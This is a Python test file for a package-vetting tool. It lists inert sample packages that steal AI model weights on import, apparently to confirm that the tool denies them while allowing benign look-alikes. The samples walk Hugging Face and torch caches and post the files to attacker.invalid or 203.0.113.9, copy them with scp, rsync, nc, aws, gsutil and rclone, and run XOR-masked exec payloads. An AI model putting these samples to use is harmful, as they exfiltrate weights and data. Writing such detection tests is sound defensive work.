"""What a patient adversary tried after ADRs 0085 and 0086 (ADR 0088), closest to this
enclave's threat, a package installed beside the weights that steals them: weight files under
a folder a library names (``torch.hub.get_dir()``, ``HF_HUB_CACHE``, ``snapshot_download``'s
folder, ``TRANSFORMERS_CACHE``, ``$HF_HOME``, ``~/.cache/huggingface``) walked and sent;
weights copied to a share or another host (``shutil.copy`` to ``/mnt``, a UNC path, an
``sshfs`` mount; ``scp``, ``rsync``, ``aws s3 cp``, ``gsutil cp``, ``az storage blob
upload``, ``huggingface-cli upload`` in a command); a payload XORed with a repeating key
read from a list. Each sample is inert (vetting only reads files) and each was allowed or
only held on fb42056 (checked by running this file against that tree). ``$HF_HOME`` walked
and sent, and ``rsync`` of the hub cache as a list, were already denied there (as a secret
sent) and are not repeated.

The near-misses are what real packages do that looks alike, and stay allowed."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package

PAYLOAD = b"import os; os.system('id')"
KEY = [0x13, 0x37, 0x42]
MASKED = [b ^ KEY[i % len(KEY)] for i, b in enumerate(PAYLOAD)]
POST = "requests.post('https://attacker.invalid/w', data=open(os.path.join(root, f), 'rb').read())"


def walked(folder: str, imports: str) -> dict[str, str]:
    """A package that walks ``folder`` on import and posts every file it finds."""
    return init(
        f"import os, requests\n{imports}"
        f"for root, _, files in os.walk({folder}):\n"
        "    for f in files:\n"
        f"        {POST}\n"
    )


DENIED: dict[str, dict[str, str]] = {
    # 1. Weights under a folder a library names, walked or globbed and sent on import.
    "torch-hub-dir-walked-and-sent": walked("torch.hub.get_dir()", "import torch\n"),
    "hf-hub-cache-constant-walked-and-sent": walked(
        "HF_HUB_CACHE", "from huggingface_hub.constants import HF_HUB_CACHE\n"
    ),
    "hf-hub-cache-attribute-globbed-and-sent": init(
        "import glob, requests\n"
        "from huggingface_hub import constants\n"
        "for p in glob.glob(constants.HF_HUB_CACHE + '/**/*', recursive=True):\n"
        "    requests.put('https://attacker.invalid/w', data=open(p, 'rb'))\n"
    ),
    "snapshot-download-folder-listed-and-sent": init(
        "import os, requests\n"
        "from huggingface_hub import snapshot_download\n"
        "d = snapshot_download('meta-llama/Llama-3-8B', local_files_only=True)\n"
        "for f in os.listdir(d):\n"
        "    requests.post('https://attacker.invalid/w', data=open(os.path.join(d, f), "
        "'rb').read())\n"
    ),
    "transformers-cache-walked-over-a-socket": init(
        "import os, socket\n"
        "from transformers.utils import TRANSFORMERS_CACHE\n"
        "s = socket.create_connection(('203.0.113.9', 443))\n"
        "for root, _, files in os.walk(TRANSFORMERS_CACHE):\n"
        "    for f in files:\n"
        "        s.sendall(open(os.path.join(root, f), 'rb').read())\n"
    ),
    "home-cache-huggingface-rglob-sent": init(
        "import requests\n"
        "from pathlib import Path\n"
        "for p in (Path.home() / '.cache' / 'huggingface').rglob('*'):\n"
        "    requests.post('https://attacker.invalid/w', data=p.read_bytes())\n"
    ),
    # 2. Weights copied to a share or another host on import.
    "weights-copied-to-mnt": init(
        "import glob, shutil\n"
        "for p in glob.glob('/models/**/*.safetensors', recursive=True):\n"
        "    shutil.copy(p, '/mnt/share/')\n"
    ),
    "hub-cache-copytree-to-unc-share": init(
        "import os, shutil\n"
        "shutil.copytree(os.path.expanduser('~/.cache/huggingface/hub'), '//fileserver/drop/h')\n"
    ),
    "weights-copyfile-to-windows-share": init(
        "import shutil\n"
        "shutil.copyfile('/models/model.safetensors', '\\\\\\\\fileserver\\\\drop\\\\m.bin')\n"
    ),
    "weights-copied-into-an-sshfs-mount": init(
        "import os, shutil\n"
        "os.system('sshfs attacker@203.0.113.9:/drop /tmp/.m')\n"
        "shutil.copy('/models/model.safetensors', '/tmp/.m/')\n"
    ),
    "weights-scp-in-a-command": init(
        "import os\nos.system('scp /models/model.safetensors attacker@203.0.113.9:/drop/')\n"
    ),
    "hub-cache-rsync-in-a-shell": init(
        "import subprocess\n"
        "subprocess.run('rsync -a ~/.cache/huggingface/hub attacker@203.0.113.9:/d', shell=True)\n"
    ),
    # Further paths out (ADR 0088's own): cloud and hub command-line clients.
    "weights-aws-s3-cp": init(
        "import os\nos.system('aws s3 cp /models/model.safetensors s3://attacker-bucket/')\n"
    ),
    "hub-cache-gsutil-cp": init(
        "import os, subprocess\n"
        "subprocess.run(['gsutil', '-m', 'cp', '-r', os.path.expanduser('~/.cache/huggingface/"
        "hub'), 'gs://attacker'])\n"
    ),
    "weights-az-storage-blob-upload": init(
        "import os\n"
        "os.system('az storage blob upload --account-name x -c c -f /models/m.gguf -n m')\n"
    ),
    "weights-huggingface-cli-upload": init(
        "import os\nos.system('huggingface-cli upload attacker/stolen /models/m.safetensors')\n"
    ),
    "hub-cache-rclone-in-a-command": init(
        "import os\nos.system('rclone copy ~/.cache/huggingface/hub remote:drop')\n"
    ),
    "weights-piped-into-nc": init(
        "import os\nos.system('nc 203.0.113.9 9000 < /models/model.safetensors')\n"
    ),
    # A hub client's own download (from the local cache) or folder, sent elsewhere.
    "hub-cache-folder-upload-folder-to-attacker-repo": init(
        "from huggingface_hub import upload_folder\n"
        "from huggingface_hub.constants import HF_HUB_CACHE\n"
        "upload_folder(folder_path=HF_HUB_CACHE, repo_id='attacker/stolen')\n"
    ),
    "hf-hub-download-file-to-a-bucket": init(
        "import boto3\n"
        "from huggingface_hub import hf_hub_download\n"
        "p = hf_hub_download('meta-llama/Llama-3-8B', 'model.safetensors', "
        "local_files_only=True)\n"
        "boto3.client('s3').upload_file(p, 'attacker-bucket', 'm')\n"
    ),
    "hf-hub-download-file-put": init(
        "import requests\n"
        "from huggingface_hub import hf_hub_download\n"
        "p = hf_hub_download('meta-llama/Llama-3-8B', 'model.safetensors', "
        "local_files_only=True)\n"
        "requests.put('https://attacker.invalid/w', data=open(p, 'rb'))\n"
    ),
    # 3. A payload XORed with a repeating key written as a list, or as bytes.
    "xor-list-key-literal-payload-exec": init(
        f"KEY = {KEY!r}\n"
        f"BLOB = bytes({MASKED!r})\n"
        "exec(bytes(b ^ KEY[i % len(KEY)] for i, b in enumerate(BLOB)).decode())\n"
    ),
    "xor-bytes-key-file-payload-exec": init(
        "import os\n"
        "KEY = b'\\x13\\x37\\x42'\n"
        "blob = open(os.path.join(os.path.dirname(__file__), 'data.bin'), 'rb').read()\n"
        "exec(bytes(b ^ KEY[i % len(KEY)] for i, b in enumerate(blob)))\n"
    ),
}

HELD: dict[str, dict[str, str]] = {}

ALLOWED: dict[str, dict[str, str]] = {
    # A trainer saves its own checkpoints under the hub cache and publishes them when asked.
    "trainer-saves-checkpoints-under-hub-cache": init(
        "import os, torch\n"
        "from huggingface_hub import HfApi\n"
        "from huggingface_hub.constants import HF_HUB_CACHE\n"
        "OUT = os.path.join(HF_HUB_CACHE, 'my-runs')\n"
        "os.makedirs(OUT, exist_ok=True)\n"
        "def save(model, step, repo_id=None):\n"
        "    path = os.path.join(OUT, f'step-{step}.pt')\n"
        "    torch.save(model.state_dict(), path)\n"
        "    if repo_id:\n"
        "        HfApi().upload_file(path_or_fileobj=path, path_in_repo=os.path.basename(path),"
        " repo_id=repo_id)\n"
    ),
    # A dataset package downloads its files from the hub on import and lists them.
    "dataset-downloader-snapshot-download-on-import": init(
        "import os\n"
        "from huggingface_hub import snapshot_download\n"
        "ROOT = snapshot_download('org/dataset', repo_type='dataset')\n"
        "FILES = sorted(os.listdir(ROOT))\n"
    ),
    "torch-hub-dir-listed-for-a-cache-report": init(
        "import os, torch\nCACHED = [f for f in os.listdir(torch.hub.get_dir())]\n"
    ),
    # A backup tool copies its config file to a mounted share on import.
    "backup-copies-config-to-mnt": init(
        "import os, shutil\n"
        "shutil.copy(os.path.expanduser('~/.config/mytool/config.toml'), '/mnt/backup/')\n"
    ),
    # A trainer backs its checkpoint up to a share when called.
    "trainer-copies-checkpoint-to-mnt-when-called": init(
        "import shutil\n"
        "def backup(path='ckpt.safetensors'):\n"
        "    shutil.copy(path, '/mnt/backup/')\n"
    ),
    "publisher-runs-aws-s3-cp-when-called": init(
        "import subprocess\n"
        "def publish(bucket):\n"
        "    subprocess.run(['aws', 's3', 'cp', 'model.safetensors', f's3://{bucket}/'])\n"
    ),
    # A test fixture masks bytes with a repeating key; nothing is run.
    "test-fixture-xor-masks-bytes": init(
        "KEY = [0x13, 0x37, 0x42, 0x99]\n"
        "def masked(data):\n"
        "    return bytes(b ^ KEY[i % len(KEY)] for i, b in enumerate(data))\n"
        "SAMPLE = masked(b'hello world')\n"
    ),
    "fixture-masks-own-file-on-import": init(
        "import os\n"
        "KEY = b'\\x5a\\xa5'\n"
        "RAW = open(os.path.join(os.path.dirname(__file__), 'fixture.bin'), 'rb').read()\n"
        "MASKED = bytes(b ^ KEY[i % len(KEY)] for i, b in enumerate(RAW))\n"
    ),
    # A websocket frame unmasked with the frame's own mask (not a key in the code).
    "websocket-frame-unmasked-with-its-mask": init(
        "def unmask(frame):\n"
        "    mask, payload = frame[2:6], frame[6:]\n"
        "    return bytes(b ^ mask[i % 4] for i, b in enumerate(payload))\n"
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
def test_verdict(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected
